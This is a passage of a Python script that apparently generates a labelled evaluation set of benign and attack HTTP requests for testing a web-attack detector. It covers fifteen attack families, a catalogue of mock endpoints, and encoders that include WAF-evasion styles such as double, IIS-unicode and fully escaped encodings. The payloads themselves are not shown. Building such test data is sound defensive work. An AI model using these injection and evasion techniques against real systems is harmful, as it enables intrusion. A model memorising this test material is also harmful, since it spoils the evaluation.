#!/usr/bin/python3
"""Beyond-CSIC evaluation set: deterministic, seeded generator (standard library only).

    /usr/bin/python3 training/eval/beyond_csic/generate.py [--out PATH] [--seed N]

Writes one JSON object per line:
    {"method","path","query","headers":{"Content-Type":...},"body","label","family","technique","app","note"}
path is the raw request path (percent-encoded where a client would encode), query the raw query string
without '?', body the raw body text. label 1 = attack, 0 = benign.

EVALUATION ONLY. Never train on this file, never use it to choose features or thresholds.
See README.md next to this file.
"""

import argparse
import json
import os
import random
import sys
from urllib.parse import quote, quote_plus

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import attacks as A  # noqa: E402
import benign as B  # noqa: E402

SEED = 20261121
DEFAULT_OUT = os.path.join(HERE, "out", "beyond-csic.jsonl")

# rows per class (label 1) and benign rows (label 0)
QUOTA = {"sqli": 480, "xss": 460, "cmdi": 400, "traversal": 400, "ssrf": 400, "ssti": 360, "xxe": 340, "jndi": 340,
         "nosql": 340, "crlf": 320, "ldap": 300, "xpath": 300, "deserialization": 300, "prototype_pollution": 300,
         "open_redirect": 300}
BENIGN_QUOTA = 5200
AMBIGUOUS_QUOTA = 300


# ============================================================ app catalogue

class EP:
    """One endpoint of one app. loc: query | form | json | xml | graphql | multipart."""

    def __init__(self, app, method, path, loc, params=None, qparams=None, pslots=None, body=None, ctype=None,
                 slots=None, gql=None, weight=1.0):
        self.app, self.method, self.path, self.loc = app, method, path, loc
        self.params = params or []          # [(name, kind)] for query/form/multipart; name ending '?' = optional
        self.qparams = qparams or []        # query parameters of a POST
        self.pslots = pslots or {}          # {slot: kind} for {slot} in path
        self.body = body                    # json template / xml template / graphql variables template
        self.ctype = ctype
        self.slots = slots or {}            # xml slot kinds
        self.gql = gql                      # graphql query text
        self.weight = weight


def P(spec):
    """'a:kind b:kind? c' -> [(name, kind)]."""
    out = []
    for tok in spec.split():
        n, _, k = tok.partition(":")
        opt = k.endswith("?")
        k = k.rstrip("?") or "text"
        out.append((n + ("?" if opt else ""), k))
    return out


FORM = "application/x-www-form-urlencoded"
JSONT = "application/json"

CATALOG = [
    # ---- shop
    EP("shop", "GET", "/search", "query", P("q:search category:category? sort:sort? page:page? per_page:limit? utm_source:ref? utm_campaign:ref?")),
    EP("shop", "GET", "/products/{slug}", "query", P("color:color? size:size? ref:ref?"), pslots={"slug": "slug"}),
    EP("shop", "GET", "/api/products", "query", P("filter[category]:category price[gte]:price? price[lte]:price? sort:sort? page[size]:limit? fields:fields?")),
    EP("shop", "POST", "/cart/add", "form", P("product_id:id qty:qty variant:sku? gift_note:note? csrf_token:token")),
    EP("shop", "POST", "/checkout/address", "json", body={"customer": {"name": "@fullname", "email": "@email", "phone": "@phone"},
                                                         "shipping": {"line1": "@addr", "city": "@city", "zip": "@zip", "country": "@country"},
                                                         "instructions": "@note", "save": "@bool"}),
    EP("shop", "POST", "/api/v1/reviews", "json", body={"product_id": "@id", "rating": "@qty", "title": "@title", "body": "@text",
                                                       "author": {"display_name": "@name", "email": "@email"}, "photos": ["@url"]}),
    EP("shop", "GET", "/account/orders", "query", P("status:status? from:date? to:date? q:search?")),
    EP("shop", "POST", "/coupon/apply", "form", P("code:coupon cart_id:uuid")),
    EP("shop", "GET", "/api/v2/orders/{id}/invoice", "query", P("format:format lang:lang?"), pslots={"id": "id"}),
    EP("shop", "GET", "/wishlist/share", "query", P("list:uuid email:email? message:note?")),
    # ---- banking
    EP("bank", "POST", "/api/transfers", "json", body={"from_account": "@iban", "to_account": "@iban", "amount": "@amount", "currency": "@currency",
                                                      "reference": "@note", "beneficiary": {"name": "@fullname", "address": "@addr", "bic": "@bic"},
                                                      "execute_on": "@date"}),
    EP("bank", "GET", "/statements", "query", P("account:iban from:date to:date format:format")),
    EP("bank", "POST", "/payees/new", "form", P("name:fullname iban:iban bic:bic? nickname:name? otp:int")),
    EP("bank", "GET", "/api/v2/accounts/{acct}/transactions", "query", P("category:category? search:search? min_amount:amount? sort:sort?"), pslots={"acct": "uuid"}),
    EP("bank", "POST", "/support/message", "form", P("subject:title message:text account_ref:id?")),
    # ---- SaaS REST
    EP("saas", "GET", "/api/v1/projects/{pid}/issues", "query", P("state:status labels:tag? assignee:username? sort:sort? direction:order? q:search?"), pslots={"pid": "uuid"}),
    EP("saas", "PATCH", "/api/v1/issues/{n}", "json", body={"title": "@title", "body": "@post", "labels": "@tags", "milestone": "@version", "assignee": "@username"}, pslots={"n": "int"}),
    EP("saas", "POST", "/api/v1/webhooks", "json", body={"url": "@callback", "events": ["issue.created", "push"], "secret": "@token", "active": "@bool",
                                                        "config": {"content_type": "json", "insecure_ssl": "0"}}),
    EP("saas", "GET", "/api/v1/users", "query", P("email:email? fields:fields? limit:limit? cursor:b64?")),
    EP("saas", "POST", "/api/v1/integrations/import", "json", body={"source_url": "@url", "format": "@format", "options": {"delimiter": ",", "header": "@bool", "mapping": {"name": "@name"}}}),
    EP("saas", "PUT", "/api/v1/settings/profile", "json", body={"display_name": "@fullname", "timezone": "@tz", "locale": "@lang", "avatar_url": "@url", "bio": "@bio"}),
    EP("saas", "POST", "/api/v1/reports/export", "json", body={"report": "@name", "filters": {"from": "@date", "to": "@date", "status": ["@status"]},
                                                              "sort": {"field": "@sort", "order": "@order"}, "notify": "@email"}),
    EP("saas", "GET", "/api/v1/search", "query", P("q:search type:status? include:fields? page:page?")),
    # ---- CMS / blog
    EP("cms", "GET", "/blog/{slug}", "query", P("utm_source:ref? utm_medium:ref? replytocom:id?"), pslots={"slug": "slug"}),
    EP("cms", "GET", "/", "query", P("s:search paged:page?")),
    EP("cms", "POST", "/wp-admin/post.php", "form", P("post_title:title content:html post_status:status tags:tag? _wpnonce:hash action:status")),
    EP("cms", "POST", "/comments/new", "form", P("author:fullname email:email url:url? comment:text post_id:id")),
    EP("cms", "GET", "/index.php", "query", P("option:template view:template id:id Itemid:int?")),
    EP("cms", "GET", "/page.php", "query", P("page:template lang:lang?")),
    EP("cms", "GET", "/media/{file}", "query", P("w:dim? h:dim?"), pslots={"file": "file"}),
    # ---- forum
    EP("forum", "POST", "/forum/topics/new", "form", P("title:title body:post tags:tag? forum_id:id")),
    EP("forum", "GET", "/forum/search", "query", P("q:search author:username? in:status? since:date?")),
    EP("forum", "POST", "/api/posts", "json", body={"topic_id": "@id", "raw": "@post", "reply_to_post_number": "@int", "whisper": "@bool"}),
    EP("forum", "POST", "/messages/send", "form", P("to:username subject:title message:post")),
    EP("forum", "GET", "/u/{user}/activity", "query", P("filter:status? page:page?"), pslots={"user": "username"}),
    # ---- admin panel
    EP("admin", "GET", "/admin/users", "query", P("search:search? role:status? sort:sort? order:order? page:page?")),
    EP("admin", "POST", "/admin/settings", "form", P("site_name:name smtp_host:host smtp_port:port admin_email:email footer:html?")),
    EP("admin", "GET", "/admin/logs", "query", P("level:level since:datetime? grep:search? file:file?")),
    EP("admin", "POST", "/admin/tools/ping", "form", P("host:host count:qty?")),
    EP("admin", "POST", "/admin/backup/create", "form", P("filename:file dir:dirpath compress:bool?")),
    EP("admin", "GET", "/admin/reports/export", "query", P("report:name format:format columns:fields? where:search?")),
    EP("admin", "POST", "/admin/templates/preview", "form", P("subject:title body:html locale:lang?")),
    EP("admin", "GET", "/Default.aspx", "query", P("__VIEWSTATE:viewstate __EVENTTARGET:name? ctl00$Search:search?")),
    # ---- file manager
    EP("files", "GET", "/files/download", "query", P("file:file dir:dirpath? inline:bool?")),
    EP("files", "GET", "/files/view/{path}", "query", P("raw:bool?"), pslots={"path": "file"}),
    EP("files", "POST", "/api/files/rename", "json", body={"from": "@file", "to": "@file", "dir": "@dirpath", "overwrite": "@bool"}),
    EP("files", "GET", "/api/thumbnails", "query", P("src:url w:dim h:dim fit:status?")),
    EP("files", "POST", "/files/upload", "multipart", P("folder:dirpath description:note? file:file"), weight=2),
    EP("files", "GET", "/share/{token}", "query", P("dl:bool? path:dirpath?"), pslots={"token": "state"}),
    # ---- IoT / router panels
    EP("router", "POST", "/cgi-bin/diagnostic.cgi", "form", P("action:status ping_addr:ip count:qty? iface:name?")),
    EP("router", "POST", "/goform/setWan", "form", P("wan_ip:ip dns1:ip dns2:ip? hostname:host mtu:int")),
    EP("router", "GET", "/cgi-bin/luci/admin/network", "query", P("iface:name? ntp_server:host? tab:template?")),
    EP("router", "POST", "/apply.cgi", "form", P("ssid:name wpa_psk:password time_zone:tz submit_button:template change_action:status?")),
    EP("iot", "POST", "/api/devices/{mac}/config", "json", body={"name": "@name", "mqtt": {"host": "@host", "port": "@port", "topic": "@slug"},
                                                                "firmware_url": "@url", "ntp": "@host"}, pslots={"mac": "mac"}),
    EP("iot", "GET", "/cgi-bin/camera.cgi", "query", P("cmd:status channel:int? snapshot:file?")),
    # ---- mobile backend
    EP("mobile", "POST", "/api/mobile/v3/device/register", "json", body={"device_id": "@uuid", "push_token": "@token", "os": "android", "os_version": "@version",
                                                                         "app_version": "@version", "model": "@name", "locale": "@lang", "user_agent": "@ua"}),
    EP("mobile", "POST", "/m/api/events", "json", body={"events": [{"name": "@status", "ts": "@datetime", "props": {"screen": "@template", "query": "@search", "referrer": "@referer"}}],
                                                         "session": "@uuid"}),
    EP("mobile", "GET", "/api/mobile/v3/feed", "query", P("cursor:b64? limit:limit lat:price? lng:price? tz:tz?")),
    EP("mobile", "POST", "/api/mobile/v3/profile", "json", body={"user": {"name": "@fullname", "bio": "@bio", "avatar": "@dataurl", "prefs": {"lang": "@lang", "theme": "dark", "notify": "@bool"}}}),
    EP("jobs", "POST", "/careers/upload-resume", "multipart", P("candidate_name:fullname email:email note:text? file:file"), weight=1.5),
    EP("saas", "POST", "/api/v1/attachments", "multipart", P("issue_id:id caption:comment? file:file"), weight=1.5),
    # ---- search / jobs / travel
    EP("search", "GET", "/search", "query", P("q:search lang:lang? safe:status? start:int?")),
    EP("search", "GET", "/api/suggest", "query", P("term:search type:category? limit:limit?")),
    EP("jobs", "GET", "/jobs/search", "query", P("title:search location:city radius:int? salary_min:int? remote:bool?")),
    EP("jobs", "POST", "/jobs/{id}/apply", "form", P("full_name:fullname email:email phone:phone cover_letter:text linkedin:url? resume:file"), pslots={"id": "id"}),
    EP("travel", "GET", "/hotels", "query", P("destination:city checkin:date checkout:date guests:qty rooms:qty? sort:sort?")),
    EP("travel", "POST", "/api/bookings", "json", body={"hotel_id": "@id", "guest": {"first_name": "@name", "last_name": "@fullname", "email": "@email"},
                                                       "special_requests": "@note", "arrival": "@date", "promo": "@coupon"}),
    EP("health", "POST", "/portal/appointments", "form", P("patient_name:fullname dob:date reason:text doctor:name? insurance_id:sku")),
    EP("lms", "POST", "/api/courses/{cid}/submissions", "json", body={"assignment_id": "@id", "answer": "@text", "attachments": ["@file"], "late": "@bool"}, pslots={"cid": "int"}),
    # ---- auth / OAuth
    EP("auth", "GET", "/oauth/authorize", "query", P("response_type:rtype client_id:state redirect_uri:redirect scope:scope state:state code_challenge:state? nonce:state?")),
    EP("auth", "POST", "/oauth/token", "form", P("grant_type:grant code:code redirect_uri:redirect client_id:state code_verifier:state?")),
    EP("auth", "POST", "/login", "form", P("username:username password:password remember:bool? next:redirect?")),
    EP("auth", "POST", "/api/auth/login", "json", body={"email": "@email", "password": "@password", "remember_me": "@bool", "device": {"ua": "@ua"}}),
    EP("auth", "GET", "/logout", "query", P("return_to:redirect")),
    EP("auth", "POST", "/password/reset", "form", P("email:email")),
    EP("auth", "GET", "/sso/callback", "query", P("SAMLResponse:b64 RelayState:redirect")),
    EP("auth", "GET", "/login", "query", P("next:redirect? continue:redirect? lang:lang?")),
    EP("auth", "POST", "/api/auth/register", "json", body={"username": "@username", "email": "@email", "password": "@password", "profile": {"full_name": "@fullname", "company": "@name", "referral": "@ref"}}),
    # ---- XML apps
    EP("b2b", "POST", "/api/orders.xml", "xml", ctype="application/xml", body=(
        '<?xml version="1.0" encoding="UTF-8"?><order><customer id="{cid}"><name>{name}</name><email>{email}</email></customer>'
        '<items><item sku="{sku}" qty="{qty}"/></items><note>{note}</note></order>'), slots={"cid": "id", "name": "fullname", "email": "email", "sku": "sku", "qty": "qty", "note": "note"}),
    EP("erp", "POST", "/soap/InvoiceService", "xml", ctype="text/xml; charset=utf-8", body=(
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:inv="http://example.com/invoice"><soapenv:Header/>'
        '<soapenv:Body><inv:GetInvoice><inv:invoiceId>{id}</inv:invoiceId><inv:customerName>{name}</inv:customerName></inv:GetInvoice></soapenv:Body></soapenv:Envelope>'),
       slots={"id": "id", "name": "fullname"}),
    EP("cms", "POST", "/xmlrpc.php", "xml", ctype="text/xml", body=(
        '<?xml version="1.0"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>{user}</string></value></param>'
        '<param><value><string>{pw}</string></value></param></params></methodCall>'), slots={"user": "username", "pw": "password"}),
    EP("router", "POST", "/upnp/control/WANIPConn1", "xml", ctype='text/xml; charset="utf-8"', body=(
        '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
        '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost><NewExternalPort>{port}</NewExternalPort>'
        '<NewProtocol>TCP</NewProtocol><NewInternalPort>{port}</NewInternalPort><NewInternalClient>{ip}</NewInternalClient><NewEnabled>1</NewEnabled>'
        '<NewPortMappingDescription>{desc}</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>'),
       slots={"port": "port", "ip": "ip", "desc": "name"}),
    EP("news", "POST", "/api/feeds/import", "xml", ctype="application/rss+xml", body=(
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>{title}</title><link>{link}</link>'
        '<item><title>{t2}</title><description>{desc}</description><pubDate>{d}</pubDate></item></channel></rss>'),
       slots={"title": "title", "link": "url", "t2": "title", "desc": "text", "d": "date"}),
    EP("saas", "POST", "/api/avatar", "xml", ctype="image/svg+xml", body=(
        '<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><title>{title}</title><text x="10" y="64">{name}</text></svg>'),
       slots={"title": "title", "name": "name"}),
    EP("admin", "POST", "/admin/api/settings.xml", "xml", ctype="application/xml", body=(
        '<settings><smtp host="{host}" port="{port}"/><admin>{email}</admin><motd>{motd}</motd></settings>'),
       slots={"host": "host", "port": "port", "email": "email", "motd": "text"}),
    EP("docs", "POST", "/api/documents/convert", "xml", ctype="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", body=(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p><w:p><w:r><w:t>{t2}</w:t></w:r></w:p></w:body></w:document>'), slots={"text": "title", "t2": "text"}),
    EP("bank", "POST", "/api/payments/pain001", "xml", ctype="application/xml", body=(
        '<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn><GrpHdr>'
        '<MsgId>{msg}</MsgId><CreDtTm>{dt}</CreDtTm></GrpHdr><PmtInf><Dbtr><Nm>{dbtr}</Nm></Dbtr><CdtTrfTxInf><Amt><InstdAmt Ccy="EUR">{amt}</InstdAmt></Amt>'
        '<Cdtr><Nm>{cdtr}</Nm></Cdtr><RmtInf><Ustrd>{ref}</Ustrd></RmtInf></CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>'),
       slots={"msg": "state", "dt": "datetime", "dbtr": "fullname", "amt": "amount", "cdtr": "fullname", "ref": "note"}),
    # ---- more path-parameter shapes
    EP("files", "GET", "/download/{file}", "query", P("token:state?"), pslots={"file": "file"}),
    EP("saas", "GET", "/api/v1/users/{id}", "query", P("fields:fields?"), pslots={"id": "id"}),
    EP("cms", "GET", "/tag/{tag}", "query", P("page:page?"), pslots={"tag": "tag"}),
    EP("cms", "GET", "/{lang}/help/{topic}", "query", P("ref:ref?"), pslots={"lang": "lang", "topic": "template"}),
    EP("media", "GET", "/img/{w}x{h}/{file}", "query", P("q:int? fm:format?"), pslots={"w": "dim", "h": "dim", "file": "file"}),
    EP("iot", "GET", "/api/v3/devices/{serial}/status", "query", P("fields:fields?"), pslots={"serial": "sku"}),
    EP("shop", "DELETE", "/api/v1/cart/items/{sku}", "query", [], pslots={"sku": "sku"}),
    EP("forum", "GET", "/search/{q}", "query", P("page:page?"), pslots={"q": "search"}),
    # ---- GraphQL with an inline string literal
    EP("graphql", "POST", "/graphql", "gqlinline", gql='query {{ search(term: {term}, first: 20) {{ ... on Product {{ id name }} ... on Article {{ id title }} }} }}',
       slots={"term": "search"}),
    EP("graphql", "POST", "/api/graphql", "gqlinline", gql='mutation {{ addComment(postId: "{pid}", body: {body}) {{ id createdAt }} }}',
       slots={"body": "comment", "pid": "uuid"}),
    # ---- GraphQL
    EP("graphql", "POST", "/graphql", "graphql", gql="query SearchProducts($term: String!, $first: Int, $after: String) { products(search: $term, first: $first, after: $after) { edges { node { id name price { amount currency } } } pageInfo { hasNextPage endCursor } } }",
       body={"term": "@search", "first": "@page", "after": "@b64"}),
    EP("graphql", "POST", "/graphql", "graphql", gql="query GetUser($id: ID!) { user(id: $id) { id name email avatarUrl } }", body={"id": "@uuid"}),
    EP("graphql", "POST", "/api/graphql", "graphql", gql="mutation CreatePost($input: CreatePostInput!) { createPost(input: $input) { post { id slug } errors { field message } } }",
       body={"input": {"title": "@title", "body": "@post", "tags": "@tags", "published": "@bool"}}),
    EP("graphql", "POST", "/graphql", "graphql", gql="mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id displayName } }",
       body={"input": {"displayName": "@fullname", "bio": "@bio", "website": "@url", "location": "@city"}}),
    EP("graphql", "POST", "/gql", "graphql", gql="mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token user { id } } }",
       body={"email": "@email", "password": "@password"}),
    EP("graphql", "POST", "/graphql", "graphql", gql="mutation Import($url: String!, $format: String) { importFromUrl(url: $url, format: $format) { jobId } }",
       body={"url": "@url", "format": "@format"}),
    EP("graphql", "POST", "/graphql", "graphql", gql="query Orders($filter: OrderFilter, $orderBy: OrderSort) { orders(filter: $filter, orderBy: $orderBy) { id total status } }",
       body={"filter": {"status": "@status", "createdAfter": "@date", "customer": {"email": "@email"}}, "orderBy": {"field": "@sort", "direction": "@order"}}),
]

TYPED = {"int", "id", "page", "qty", "port", "price", "amount", "bool", "tags", "dim", "limit"}


# ============================================================ encoders

def _pct_char(ch, lower=False):
    if ch == "\xa0":
        s = "%A0"
    else:
        s = "".join("%%%02X" % b for b in ch.encode("utf-8"))
    return s.lower() if lower else s


def enc_value(v, style, pre=False):
    """Encode a query / form value the way a given client would."""
    out = []
    for ch in v:
        o = ord(ch)
        if style == "browser":          # application/x-www-form-urlencoded as browsers send it
            if ch == " ":
                out.append("+")
            elif ch.isascii() and (ch.isalnum() or ch in "*-._"):
                out.append(ch)
            elif pre and ch == "%":
                out.append(ch)
            else:
                out.append(_pct_char(ch))
        elif style in ("pct", "lowerhex"):  # encodeURIComponent
            if ch.isascii() and (ch.isalnum() or ch in "-_.!~*'()"):
                out.append(ch)
            elif pre and ch == "%":
                out.append(ch)
            else:
                out.append(_pct_char(ch, style == "lowerhex"))
        elif style in ("raw", "rawplus"):   # what a scanner pasting the payload sends: only what breaks the URL
            if ch == " ":
                out.append("+" if style == "rawplus" else "%20")
            elif ch in "&#+" or (ch == "%" and not pre) or o < 0x21 or o >= 0x7f:
                out.append(_pct_char(ch))
            else:
                out.append(ch)
        elif style == "full":           # every non-alphanumeric
            out.append(ch if ch.isascii() and ch.isalnum() else ("%" if (pre and ch == "%") else _pct_char(ch)))
        elif style == "all":            # every character, letters too (Burp "encode all")
            out.append("%" if (pre and ch == "%") else ("".join("%%%02X" % b for b in ch.encode("utf-8")) if ch != "\xa0" else "%A0"))
        elif style == "unicode":        # IIS %uXXXX
            if ch.isascii() and ch.isalnum():
                out.append(ch)
            elif pre and ch == "%":
                out.append(ch)
            else:
                out.append("%%u%04X" % o if o < 0x10000 else _pct_char(ch))
        elif style == "double":         # one more layer than the payload had: '%' of a pre-encoded payload once, the rest twice
            if pre and ch == "%":
                out.append("%25")
            else:
                out.append(ch if ch.isascii() and (ch.isalnum() or ch in "-_.") else _pct_char(ch).replace("%", "%25"))
        else:
            raise ValueError(style)
    return "".join(out)


def enc_path(v, style, pre=False):
    if style == "pct":
        return "".join(ch if ch.isascii() and (ch.isalnum() or ch in "-_.~!$'()*,;:@=+") else ("%" if pre and ch == "%" else _pct_char(ch)) for ch in v)
    if style == "raw":  # keep slashes and most punctuation
        return "".join(ch if (0x21 <= ord(ch) < 0x7f and ch not in "?#" and (ch != "%" or pre)) else _pct_char(ch) for ch in v)
    if style == "double":
        return "".join(ch if ch.isascii() and (ch.isalnum() or ch in "-_.") else ("%25" if pre and ch == "%" else _pct_char(ch).replace("%", "%25")) for ch in v)
    raise ValueError(style)


class Hot(str):
    """The injected string inside a JSON document (escaped according to a style)."""
    style = "plain"


def _jstr(s, style):
    if style == "plain":
        return json.dumps(s, ensure_ascii=False)
    if style == "ascii":
        return json.dumps(s, ensure_ascii=True)
    if style == "stj":  # System.Text.Json default encoder: <>&'+` and non-ASCII as \uXXXX
        out = []
        for ch in s:
            if ch in "<>&'+`\"\\" or ord(ch) < 0x20 or ord(ch) > 0x7e:
                out.append({'"': '\\"', "\\": "\\\\"}.get(ch) or "\\u%04X" % ord(ch) if ord(ch) < 0x10000 else json.dumps(ch)[1:-1])
            else:
                out.append(ch)
        return '"' + "".join(out) + '"'
    if style == "uall":  # every non-alphanumeric as \u00XX (attacker WAF bypass)
        return '"' + "".join(ch if ch.isascii() and ch.isalnum() else ("\\u%04x" % ord(ch) if ord(ch) < 0x10000 else json.dumps(ch)[1:-1]) for ch in s) + '"'
    raise ValueError(style)


def jdump(o, style="plain", compact=True):
    sep, kv = (",", ":") if compact else (", ", ": ")
    if isinstance(o, Hot):
        return _jstr(str(o), o.style)
    if isinstance(o, str):
        return _jstr(o, "stj" if style == "stj" else ("ascii" if style == "ascii" else "plain"))
    if o is None or isinstance(o, (bool, int, float)):
        return json.dumps(o)
    if isinstance(o, dict):
        return "{" + sep.join(jdump(str(k) if not isinstance(k, Hot) else k, style, compact) + kv + jdump(v, style, compact) for k, v in o.items()) + "}"
    if isinstance(o, (list, tuple)):
        return "[" + sep.join(jdump(v, style, compact) for v in o) + "]"
    raise TypeError(type(o))


def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


# ============================================================ request building

def fill(tmpl, r):
    """Instantiate a JSON template: '@kind' leaves -> benign values. Returns (obj, [(path, kind)])."""
    leaves = []

    def rec(t, path):
        if isinstance(t, dict):
            return {k: rec(v, path + (k,)) for k, v in t.items()}
        if isinstance(t, list):
            return [rec(v, path + (i,)) for i, v in enumerate(t)]
        if isinstance(t, str) and t.startswith("@"):
            kind = t[1:]
            leaves.append((path, kind))
            v = B.gen(kind, r)
            return v
        return t
    return rec(tmpl, ()), leaves


def set_path(obj, path, value):
    cur = obj
    for k in path[:-1]:
        cur = cur[k]
    cur[path[-1]] = value


def get_path(obj, path):
    cur = obj
    for k in path:
        cur = cur[k]
    return cur


_SLOTS = {}


def slots_of(ep, r=None):
    """Injectable slots: [(loc, key, kind)] (cached; listing them draws nothing from r)."""
    if id(ep) not in _SLOTS:
        _SLOTS[id(ep)] = (ep, _slots_of(ep, random.Random(0)))
    return _SLOTS[id(ep)][1]


def _slots_of(ep, r):
    out = []
    if ep.loc in ("query", "form", "multipart"):
        for n, k in ep.params:
            out.append(("form" if ep.loc in ("form", "multipart") and ep.method != "GET" else "query", n.rstrip("?"), k))
    for n, k in ep.qparams:
        out.append(("query", n.rstrip("?"), k))
    for n, k in ep.pslots.items():
        out.append(("path", n, k))
    if ep.loc in ("json", "graphql"):
        _, leaves = fill(ep.body, r)
        out += [(ep.loc, p, k) for p, k in leaves]
    if ep.loc == "xml":
        out += [("xml", n, k) for n, k in ep.slots.items()]
    if ep.loc == "gqlinline":
        out += [("gqlinline", n, k) for n, k in ep.slots.items() if n != "pid"]
    return out


def strval(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, list):
        return ",".join(map(str, v))
    return str(v)


def kv_pairs(params, r, force=()):
    pairs = []
    for n, k in params:
        opt = n.endswith("?")
        n = n.rstrip("?")
        if opt and n not in force and r.random() < 0.45:
            continue
        pairs.append([n, k, B.gen(k, r)])
    return pairs


def build(ep, r, inj=None, benign_style=None):
    """Build one request. inj: dict(loc, key, value, style, pre, struct) or None.
    Returns dict(method, path, query, headers, body)."""
    inj = inj or {}
    force = {inj.get("key")} if inj.get("loc") in ("query", "form") else set()
    bstyle = benign_style or r.choice(["browser", "browser", "browser", "pct"])
    # path
    path = ep.path
    for n, k in ep.pslots.items():
        if inj.get("loc") == "path" and inj.get("key") == n:
            val = enc_path(inj["value"], inj["style"], inj.get("pre"))
        else:
            v = strval(B.gen(k, r))
            val = enc_path(v, "pct")
        path = path.replace("{" + n + "}", val)
    body, ctype = "", None
    qpairs, fpairs = [], []
    if ep.loc == "query":
        qpairs = kv_pairs(ep.params, r, force)
    elif ep.loc in ("form", "multipart"):
        fpairs = kv_pairs(ep.params, r, force)
    qpairs += kv_pairs(ep.qparams, r, force)

    def render_pairs(pairs, which):
        parts = []
        for n, k, v in pairs:
            if inj.get("loc") == which and inj.get("key") == n and "value" in inj:
                st = inj.get("struct")
                if st == "op":
                    parts += struct_op_pairs(n, inj["value"], inj, r)
                elif st == "where":
                    parts.append(n + "=" + enc_value(strval(v), bstyle))
                    parts += struct_op_pairs(n, inj["value"], inj, r, where=True)
                elif st == "proto":
                    parts.append(n + "=" + enc_value(strval(v), bstyle))
                    parts += proto_pairs(inj["value"], inj, r)
                else:
                    parts.append(n + "=" + enc_value(inj["value"], inj["style"], inj.get("pre")))
            else:
                parts.append(encname(n) + "=" + enc_value(strval(v), bstyle))
        return "&".join(parts)

    query = render_pairs(qpairs, "query")
    if ep.loc == "form":
        body, ctype = render_pairs(fpairs, "form"), FORM
    elif ep.loc == "multipart":
        bnd = "----WebKitFormBoundary" + B.rstr(r, B.AN, 16)
        ctype = "multipart/form-data; boundary=" + bnd
        chunks = []
        for n, k, v in fpairs:
            val = inj["value"] if inj.get("loc") == "form" and inj.get("key") == n else strval(v)
            if k == "file":
                ext = val.rsplit(".", 1)[-1].lower() if "." in val else "bin"
                mime = {"pdf": "application/pdf", "png": "image/png", "jpg": "image/jpeg", "txt": "text/plain", "csv": "text/csv", "svg": "image/svg+xml"}.get(ext, "application/octet-stream")
                content = inj.get("file_content") or r.choice(["%PDF-1.4 (binary omitted)", "hello world\n", "id,name\n1,Widget\n2,Gadget\n", "(binary omitted)"])
                chunks.append(f'--{bnd}\r\nContent-Disposition: form-data; name="{n}"; filename="{val}"\r\nContent-Type: {mime}\r\n\r\n{content}\r\n')
            else:
                chunks.append(f'--{bnd}\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n{val}\r\n')
        body = "".join(chunks) + f"--{bnd}--\r\n"
    elif ep.loc in ("json", "graphql"):
        obj, leaves = fill(ep.body, r)
        if inj.get("loc") in ("json", "graphql"):
            st = inj.get("struct")
            pth = inj["key"]
            if st == "op":
                op, val = inj["value"]
                set_path(obj, pth, {op: val})
            elif st == "where":
                op, val = inj["value"]
                if r.random() < .5 or len(pth) < 2:
                    obj[op] = val
                else:
                    set_path(obj, pth, {op: val})
            elif st == "proto":
                keys, val = inj["value"]
                tgt = obj if r.random() < .6 or len(pth) < 2 else get_path(obj, pth[:-1])
                if not isinstance(tgt, dict):
                    tgt = obj
                d = tgt
                for k in keys[:-1]:
                    d = d.setdefault(k, {})
                d[keys[-1]] = val
            elif st == "json_value":
                set_path(obj, pth, inj["value"])
            else:
                h = Hot(inj["value"])
                h.style = inj["style"]
                set_path(obj, pth, h)
        jstyle = "stj" if (r.random() < .15) else ("ascii" if r.random() < .15 else "plain")
        compact = r.random() < .75
        if ep.loc == "graphql":
            env = {"operationName": ep.gql.split()[1].split("(")[0], "query": ep.gql, "variables": obj}
            if r.random() < .3:
                env = {"query": ep.gql, "variables": obj}
            body = jdump(env, jstyle, compact)
        else:
            body = jdump(obj, jstyle, compact)
        ctype = r.choice([JSONT, JSONT, "application/json; charset=utf-8"])
    elif ep.loc == "xml":
        vals = {}
        for n, k in ep.slots.items():
            if inj.get("loc") == "xml" and inj.get("key") == n:
                v = inj["value"]
                vals[n] = v if inj.get("raw_xml") else (f"<![CDATA[{v}]]>" if inj.get("style") == "cdata" and "]]>" not in v else xml_esc(v))
            else:
                vals[n] = xml_esc(strval(B.gen(k, r)))
        body = ep.body.format(**vals)
        ctype = ep.ctype
    elif ep.loc == "gqlinline":
        vals = {}
        for n, k in ep.slots.items():
            v = inj["value"] if inj.get("loc") == "gqlinline" and inj.get("key") == n else strval(B.gen(k, r))
            vals[n] = v if n == "pid" else json.dumps(v, ensure_ascii=False)
        body = jdump({"query": ep.gql.format(**vals)}, "plain", True)
        ctype = JSONT
    if inj.get("whole_body") is not None:
        body, ctype = inj["whole_body"], inj.get("ctype", ctype)
    headers = {"Content-Type": ctype} if ctype else {}
    return {"method": ep.method, "path": path, "query": query, "headers": headers, "body": body}


def encname(n):
    """A parameter name as a client writes it: brackets, dots and '$' kept, the rest form-encoded."""
    return enc_value(n, "browser").replace("%5B", "[").replace("%5D", "]").replace("%24", "$")


def _bk(s, inj):
    s = encname(s)
